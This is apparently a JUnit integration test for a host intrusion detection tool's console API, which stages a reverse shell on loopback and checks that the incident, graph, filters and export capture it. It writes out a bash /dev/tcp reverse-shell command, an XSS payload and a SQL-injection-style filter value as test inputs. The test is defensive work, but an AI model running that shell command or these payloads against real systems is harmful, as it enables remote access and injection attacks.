package dev.vigil.cli;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import org.junit.jupiter.api.Test;

import java.io.OutputStream;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.concurrent.TimeUnit;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * The console's API against a real store filled by a real 'vigil run' during a reverse shell on
 * loopback: the token is required, the incident is there, and its graph holds the listener's
 * address, the shell's command line and the command run inside it, hostile text kept as text.
 */
class ConsoleApiTest {
    private static final ObjectMapper JSON = new ObjectMapper();
    private final HttpClient http = HttpClient.newHttpClient();

    private HttpResponse<String> get(String url, String token) throws Exception {
        HttpRequest.Builder b = HttpRequest.newBuilder(URI.create(url));
        if (token != null) {
            b.header("Authorization", "Bearer " + token);
        }
        return http.send(b.build(), HttpResponse.BodyHandlers.ofString());
    }

    /** 'vigil show FILE' opens the export in a console of its own, with the same graph, as an unprivileged user could. */
    private void showOffline(String exported, String id, JsonNode graph) throws Exception {
        Path file = Files.createTempFile("vigil-incident", ".json");
        Files.writeString(file, exported);
        java.util.List<String> cmd = new java.util.ArrayList<>(AgentProcess.javaCommand());
        cmd.addAll(java.util.List.of("show", file.toString(), "--listen", "127.0.0.1:0"));
        Process show = new ProcessBuilder(cmd).start();
        try {
            var err = new java.io.BufferedReader(new java.io.InputStreamReader(show.getErrorStream(), StandardCharsets.UTF_8));
            String line = err.readLine();
            Matcher m = Pattern.compile("at (http://\\S+?/)#incident/\\S+ token ([0-9a-f]{64})").matcher(String.valueOf(line));
            assertTrue(m.find(), "vigil show prints where it serves the incident: " + line);
            JsonNode shown = JSON.readTree(get(m.group(1) + "api/incidents/" + id + "/graph", m.group(2)).body());
            assertEquals(graph.get("nodes").size(), shown.get("nodes").size(), "the offline graph is the graph");
            assertEquals(401, get(m.group(1) + "api/incidents", null).statusCode());
        } finally {
            show.destroy();
            assertTrue(show.waitFor(10, TimeUnit.SECONDS));
        }
        assertEquals(0, show.exitValue(), "vigil show stops cleanly on SIGTERM");
    }

    private JsonNode list(String url, String token) throws Exception {
        var r = get(url, token);
        assertEquals(200, r.statusCode(), url + ": " + r.body());
        return JSON.readTree(r.body());
    }

    private boolean listsIncident(String url, String token, String id) throws Exception {
        for (JsonNode i : list(url, token)) {
            if (i.get("id").asText().equals(id)) {
                return true;
            }
        }
        return false;
    }

    /** The filters of the incidents, alerts, events and rules pages narrow what they should, and a bad one is a 400 saying why. */
    private void filters(String base, String token, String incident, long shell) throws Exception {
        String api = base + "api/";
        assertTrue(listsIncident(api + "incidents?priority=CRITICAL", token, incident), "a CRITICAL incident is CRITICAL and above");
        assertTrue(!listsIncident(api + "incidents?priority=EMERGENCY", token, incident));
        assertTrue(listsIncident(api + "incidents?rule=Reverse%20shell", token, incident));
        assertTrue(!listsIncident(api + "incidents?rule=No%20such%20rule", token, incident));
        assertTrue(listsIncident(api + "incidents?technique=T1059", token, incident), "T1059 takes in T1059.004");
        assertTrue(!listsIncident(api + "incidents?technique=T1005", token, incident));
        assertTrue(!listsIncident(api + "incidents?host=elsewhere", token, incident));
        assertTrue(listsIncident(api + "incidents?since=2000-01-01T00:00:00Z", token, incident));
        assertTrue(!listsIncident(api + "incidents?since=2999-01-01T00:00:00Z", token, incident));
        var bad = get(api + "incidents?priority=loud", token);
        assertEquals(400, bad.statusCode());
        assertTrue(bad.body().contains("priority must be one of"), bad.body());
        assertEquals(400, get(api + "alerts?technique=x%27%20OR%201=1", token).statusCode());

        JsonNode shells = list(api + "alerts?rule=Reverse%20shell&technique=T1059", token);
        assertTrue(shells.size() > 0);
        shells.forEach(a -> assertEquals("Reverse shell", a.get("rule").asText()));
        assertEquals(0, list(api + "alerts?rule=Reverse%20shell&priority=EMERGENCY", token).size());

        JsonNode byPid = list(api + "events?process=" + shell, token);
        assertTrue(byPid.size() > 0);
        byPid.forEach(e -> assertEquals(shell, e.get("pid").asLong()));
        JsonNode byAddress = list(api + "events?address=127.0.0.1", token);
        assertTrue(byAddress.size() > 0);
        byAddress.forEach(e -> assertTrue(e.path("dip").asText().equals("127.0.0.1") || e.path("sip").asText().equals("127.0.0.1"), e.toString()));
        JsonNode byPath = list(api + "events?path=bin/id", token);
        assertTrue(byPath.size() > 0, "the exec of id is found by its path");
        byPath.forEach(e -> assertTrue(e.toString().contains("bin/id"), e.toString()));

        JsonNode rule = null;
        for (JsonNode r : list(api + "rules", token)) {
            if (r.get("name").asText().equals("Reverse shell")) {
                rule = r;
            }
        }
        assertTrue(rule != null && rule.get("loaded").asBoolean() && rule.get("hits").asLong() >= 1
                && rule.get("source").asText().contains("vigil_rules.yaml"), "the rules page counts the reverse shell's hits: " + rule);
    }

    @Test
    void anIncidentAndItsAttackGraphAreServedBehindTheToken() throws Exception {
        Path data = Files.createTempDirectory("vigil-console");
        try (AgentProcess agent = AgentProcess.start("--data", data.toString(), "--listen", "127.0.0.1:0");
             ServerSocket listener = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
            Matcher m = Pattern.compile("console (http://\\S+/) token ([0-9a-f]{64})").matcher(String.join("\n", agent.stderr));
            assertTrue(m.find(), "vigil run prints the console's address and token: " + agent.stderr);
            String base = m.group(1), token = m.group(2);
            assertEquals("rw-------", java.nio.file.attribute.PosixFilePermissions.toString(
                    Files.getPosixFilePermissions(data.resolve("console.token"))));

            assertEquals(200, get(base + "health", null).statusCode());
            assertEquals(401, get(base + "api/incidents", null).statusCode());
            assertEquals(401, get(base + "api/incidents", "0".repeat(64)).statusCode());
            assertEquals(401, get(base + "metrics", null).statusCode());

            int port = listener.getLocalPort();
            Process bash = new ProcessBuilder("bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/" + port + "; exec sh -i <&3 >&3 2>&3").start();
            try (Socket s = listener.accept()) {
                OutputStream out = s.getOutputStream();
                out.write("id\necho '<img src=x onerror=alert(1)>' > /dev/null; sh -c 'echo \"<img src=x onerror=alert(1)>\"'\nexit\n"
                        .getBytes(StandardCharsets.UTF_8));
                out.flush();
                s.getInputStream().readAllBytes();
            }
            assertTrue(bash.waitFor(10, TimeUnit.SECONDS));
            long shell = bash.pid();

            JsonNode incident = null;
            for (int i = 0; i < 100 && incident == null; i++) {
                for (JsonNode inc : JSON.readTree(get(base + "api/incidents", token).body())) {
                    JsonNode full = JSON.readTree(get(base + "api/incidents/" + inc.get("id").asText(), token).body());
                    for (JsonNode a : full.get("alerts")) {
                        if (a.get("rule").asText().equals("Reverse shell") && a.get("events").get(0).get("pid").asLong() == shell) {
                            incident = full;
                        }
                    }
                }
                Thread.sleep(100);
            }
            assertTrue(incident != null, "the reverse shell's incident is in the store within seconds");
            // the store writes process rows in batches of their own: the alert may be in before the commands' rows
            JsonNode graph = null;
            for (int i = 0; i < 100 && (graph == null || !graph.toString().contains("\"comm\":\"id\"")); i++) {
                if (graph != null) {
                    Thread.sleep(100);
                }
                graph = JSON.readTree(get(base + "api/incidents/" + incident.get("id").asText() + "/graph", token).body());
            }
            boolean peer = false, shellNode = false, commandInside = false, hostileAsText = false;
            for (JsonNode n : graph.get("nodes")) {
                String kind = n.path("kind").asText();
                peer |= kind.equals("peer") && n.path("label").asText().equals("127.0.0.1:" + port);
                if (kind.equals("process")) {
                    String args = n.path("args").toString();
                    shellNode |= n.path("pid").asLong() == shell && args.contains("\"-i\"") && n.has("rules");
                    commandInside |= n.path("comm").asText().equals("id");
                    hostileAsText |= n.path("args").toString().contains("<img src=x onerror=alert(1)>");
                }
            }
            assertTrue(peer, "the listener's address is a peer node: " + graph);
            assertTrue(shellNode, "the shell is a process node with its rules: " + graph);
            assertTrue(commandInside, "the command run inside the shell is in the graph: " + graph);
            assertTrue(hostileAsText, "hostile argv is kept, as a JSON string");
            JsonNode everything = JSON.readTree(get(base + "api/incidents/" + incident.get("id").asText() + "/graph?expand=all", token).body());
            assertTrue(everything.get("everything").asBoolean() && everything.get("nodes").size() >= graph.get("nodes").size(),
                    "asked for more, the graph holds at least as much");
            assertTrue(get(base + "api/incidents/" + incident.get("id").asText() + "/graph", token).headers()
                    .firstValue("Content-Type").orElse("").startsWith("application/json"));

            var export = get(base + "api/incidents/" + incident.get("id").asText() + "/export", token);
            JsonNode file = JSON.readTree(export.body());
            assertEquals(1, file.get("vigil_export").asInt());
            assertEquals(incident.get("id"), file.get("incident").get("id"));
            assertTrue(file.get("graph").get("nodes").size() > 0 && file.get("events").size() > 0, "the export holds the graph and the events");
            assertTrue(export.headers().firstValue("Content-Disposition").orElse("").startsWith("attachment"));
            showOffline(export.body(), incident.get("id").asText(), graph);

            String alertId = incident.get("alerts").get(0).get("id").asText();
            assertEquals(200, get(base + "api/alerts/" + alertId, token).statusCode());
            assertEquals(200, get(base + "api/alerts/" + alertId + "/graph", token).statusCode());
            assertEquals(404, get(base + "api/alerts/nope", token).statusCode());
            String execId = incident.get("alerts").get(0).get("events").get(0).get("exec_id").asText();
            JsonNode process = JSON.readTree(get(base + "api/processes/" + java.net.URLEncoder.encode(execId, StandardCharsets.UTF_8), token).body());
            assertTrue(process.get("children").size() >= 1, "the shell's children are listed: " + process);
            assertTrue(process.get("ancestors").isArray() && process.get("files").isArray() && process.get("peers").isArray(), process.toString());
            assertTrue(JSON.readTree(get(base + "api/events?type=execve&limit=5", token).body()).size() > 0);
            filters(base, token, incident.get("id").asText(), shell);
            String metrics = get(base + "metrics", token).body();
            assertTrue(metrics.contains("vigil_store_rows{table=\"alerts\"}"), metrics);
            assertTrue(JSON.readTree(get(base + "api/health", token).body()).has("events_by_hook"));
            assertEquals(0, agent.stop());
        }
    }
}
